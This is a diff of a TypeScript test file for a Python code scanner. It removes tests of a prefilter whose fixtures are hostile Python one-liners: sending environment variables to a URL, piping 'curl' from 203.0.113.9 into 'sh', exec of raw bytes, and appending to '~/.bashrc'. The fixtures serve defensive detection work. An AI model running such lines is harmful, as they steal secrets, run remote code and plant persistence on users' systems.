@@ -3,7 +3,6 @@ import { beforeAll, expect, test } from 'vitest';
 import { longestCut } from '../bounds.ts';
 import { modulesToFollow } from '../modules/follow.ts';
 import { prepare, scanFile, scanModules } from '../scan-file.ts';
-import { mayMatter, wordsIn } from './prefilter.ts';
 import { unescapeText } from './strings.ts';
 
 beforeAll(async () => {
@@ -136,24 +135,6 @@ test('of what is no Python, words say whether it would run other code', () => {
   expect(notes(`${'x = 1\n'.repeat(110_000)}import subprocess`)).toEqual([
     ['words', 'warn', ['subprocess']],
   ]);
-});
-
-test.each([
-  ['import os, requests\nrequests.post(u, json=dict(os.environ))'],
-  ['from httpx import post\nfrom os import environ as e\npost(u, json=e)'],
-  ['import os as o\no.system("curl http://203.0.113.9 | sh")'],
-  ['import os\nrun = getattr(os, a + b)'],
-  ['exec(bytes([1, 2, 3, 4]))'],
-  ['open(p, "a").write("x")  # ~/.bashrc'],
-])('%j is not passed over', (text) => {
-  expect(mayMatter(wordsIn(text))).toBe(true);
-});
-
-test('what has no end of the kind that it needs is passed over', () => {
-  expect(mayMatter(wordsIn('import json\nprint(json.dumps({"a": 1}))'))).toBe(false);
-  expect(mayMatter(wordsIn('import requests\nprint(requests.get("https://a.invalid").text)'))).toBe(
-    false,
-  );
 });
 
 test.each([
